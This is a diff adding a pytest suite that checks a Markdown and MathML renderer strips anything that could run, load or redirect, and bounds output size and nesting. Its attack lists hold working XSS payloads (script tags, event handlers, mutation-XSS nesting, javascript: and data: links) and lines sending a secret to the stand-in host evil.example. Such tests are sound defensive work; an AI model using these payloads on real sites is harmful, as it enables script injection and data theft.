@@ -1,0 +1,254 @@
+"""Answers as HTML: nothing in them can run, load or lead elsewhere, and the work is bounded."""
+
+from __future__ import annotations
+
+import json
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from services.rendering import LONGEST_MARKDOWN, render_markdown
+
+SHARED_ATTACKS = Path(__file__).parents[3].parent / "shared" / "data" / "attacks" / "xss.jsonl"
+FORBIDDEN = {
+    "script", "img", "iframe", "object", "embed", "svg", "style", "link", "meta", "base", "form", "input",
+    "video", "audio", "html", "body", "button", "textarea", "template", "annotation-xml", "maction", "div",
+    "span",
+}  # fmt: skip
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt\n>alert(1)</ScRiPt >",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/?q=SECRET)",
+    "![x][1]\n\n[1]: https://evil.example/a.png",
+    "<svg/onload=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href=javascript:alert(1)>x</math>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$\\text{<img src=x onerror=alert(1)>}$",
+    "$</math><script>alert(1)</script>$",
+    "$$\\style{background:url(https://evil.example)}{x}$$",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='x' onclick=alert(1)>x</a>",
+    "[x](https://example.org \"' onmouseover=alert(1) '\")",
+    '<https://example.org/"onmouseover=alert(1)>',
+    '```js" onload=alert(1)\nx\n```',
+    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
+    "<style>@import 'https://evil.example'</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<!--><script>alert(1)</script>-->",
+    "\x00<script>alert(1)</script>",
+    "~~<details open ontoggle=alert(1)>~~",
+]
+LINKS = [
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;avascript&colon;alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](data:image/svg+xml,<svg/>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](ftp://example.org)",
+    "[x](blob:https://example.org/1)",
+    "[x](intent://x#Intent;end)",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+]
+
+
+class Seen(HTMLParser):
+    """The tags and attributes that a browser would be given."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str, str]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_data(self, data):
+        self.text += data
+
+
+def assert_harmless(html: str) -> None:
+    seen = Seen(html)
+    assert not FORBIDDEN & set(seen.tags), html
+    for tag, name, value in seen.attributes:
+        assert not name.startswith("on"), html
+        assert name not in ("src", "srcset", "action", "formaction", "srcdoc", "background"), html
+        if "href" in name:
+            assert (tag, name) == ("a", "href"), html
+            assert urlsplit(value).scheme in ("", "http", "https", "mailto"), html
+        if name == "style":
+            assert value.replace(" ", "").rstrip(";") in (
+                "text-align:left", "text-align:right", "text-align:center"
+            ), html  # fmt: skip
+
+
+def shared_attacks() -> list[str]:
+    if not SHARED_ATTACKS.exists():
+        return []
+    return [json.loads(line)["text"] for line in SHARED_ATTACKS.read_text(encoding="utf-8").splitlines()]
+
+
+@pytest.mark.parametrize("attack", [*ATTACKS, *LINKS])
+def test_no_attack_survives(attack):
+    """No script, handler, image, style or foreign scheme, alone or inside of other Markdown."""
+    for text in (attack, f"> - {attack}", f"**{attack}**", f"# {attack}", f"[{attack}](https://a.example)"):
+        assert_harmless(render_markdown(text))
+
+
+@pytest.mark.skipif(not SHARED_ATTACKS.exists(), reason="the shared attacks are not here")
+def test_no_published_attack_survives():
+    """The same for a published list."""
+    attacks = shared_attacks()
+    assert attacks
+    for attack in attacks:
+        for text in (attack, f"> - {attack}", f"| a |\n|---|\n| {attack} |"):
+            assert_harmless(render_markdown(text))
+
+
+@pytest.mark.parametrize("link", LINKS)
+def test_links_to_foreign_schemes_are_text(link):
+    """Nothing to click is left of them."""
+    assert "href" not in render_markdown(link)
+
+
+@given(
+    st.lists(
+        st.sampled_from([*ATTACKS, *LINKS, "`", "$", "$$", "\n", "<", ">", "](", "[", "|", "\\", "&#", "栈"]),
+        max_size=8,
+    ).map("".join)
+)
+def test_no_mixture_of_attacks_survives(text):
+    """However they are strung together."""
+    assert_harmless(render_markdown(text))
+
+
+@pytest.mark.parametrize(
+    "link", ["https://example.org/a?b=1&c=2", "http://example.org", "mailto:ta@example.org", "#栈"]
+)
+def test_honest_links_stay(link):
+    """A link to the web opens without handing over where it was clicked."""
+    seen = Seen(render_markdown(f"[x]({link})"))
+    assert [name for _, name, _ in seen.attributes if name == "href"] == ["href"]
+    assert ("a", "rel", "noopener noreferrer") in seen.attributes
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("**栈** and *queue*", "<p><strong>栈</strong> and <em>queue</em></p>\n"),
+        ("```c\na < b && c\n```", '<pre><code class="language-c">a &lt; b &amp;&amp; c\n</code></pre>\n'),
+        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"),
+        ("~~no~~", "<p><s>no</s></p>\n"),
+        ("a [1]", "<p>a [1]</p>\n"),
+        ("", ""),
+    ],
+)
+def test_markdown_is_rendered(text, html):
+    """What teachers write looks as they meant it."""
+    assert render_markdown(text) == html
+
+
+def test_tables_keep_their_alignment():
+    """The one style that is allowed."""
+    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
+    assert html.count("text-align:center") == html.count("text-align:right") == 2
+
+
+@pytest.mark.parametrize(
+    ("text", "display", "parts"),
+    [
+        ("$x^2$", "inline", ["<msup>", "<mi>x</mi>", "<mn>2</mn>"]),
+        ("$$\\frac{a}{b}$$", "block", ["<mfrac>"]),
+        ("$ \\sqrt{n} $", "inline", ["<msqrt>"]),
+        ("复杂度是$O(n \\log n)$。", "inline", ["log", "<mi>n</mi>"]),
+    ],
+)
+def test_mathematics_becomes_mathml(text, display, parts):
+    """Inline and displayed formulas, in Chinese text as in English."""
+    html = render_markdown(text)
+    assert f'display="{display}"' in html
+    assert all(part in html for part in parts)
+    assert "$" not in html
+
+
+@pytest.mark.parametrize(
+    "latex", ["\\frac{", "\\left(", "{" * 3000, "\\begin{matrix}", "^", "\\undefined<b>"]
+)
+def test_mathematics_that_cannot_be_read_is_shown_or_left(latex):
+    """Broken formulas are no error, and their source or their parts are shown without any markup of it."""
+    html = render_markdown(f"${latex}$")
+    assert_harmless(html)
+    assert "<b>" not in html
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        ">",
+        "[",
+        "[a](",
+        "*",
+        "**a",
+        "_a",
+        "`",
+        "~~a",
+        "$",
+        "$a",
+        "$a ",
+        "|a",
+        "<",
+        "&",
+        "\\",
+        "- ",
+        "![",
+        "\n> ",
+    ],
+)
+def test_the_work_grows_no_faster_than_the_text(piece):
+    """Twice the text gives about twice the HTML at most, with nesting cut off, up to the longest text."""
+
+    def size(characters: int) -> int:
+        html = render_markdown((piece * characters)[:characters])
+        assert_harmless(html)
+        return len(html)
+
+    half, whole = size(LONGEST_MARKDOWN // 2), size(LONGEST_MARKDOWN)
+    assert whole <= 2.2 * half + 2_000
+    assert whole <= 30 * LONGEST_MARKDOWN
+    assert size(1_000_000) <= 6_000_000
+
+
+@pytest.mark.parametrize("opening", ["> ", "- ", "1. "])
+def test_nesting_is_bounded(opening):
+    """However deep the Markdown, the HTML is nested a few times only."""
+    shallow = Seen(render_markdown(opening * 200 + "x")).tags
+    deep = Seen(render_markdown(opening * 5_000 + "x")).tags
+    assert len(deep) == len(shallow) < 80
+
+
+def test_what_is_too_long_is_shown_as_plain_text():
+    """One character more than the longest text, and nothing is parsed."""
+    assert render_markdown("*" + "a" * LONGEST_MARKDOWN) == f"<pre>*{'a' * LONGEST_MARKDOWN}</pre>"
+    assert "<script" not in render_markdown("<script>" + "a" * LONGEST_MARKDOWN)
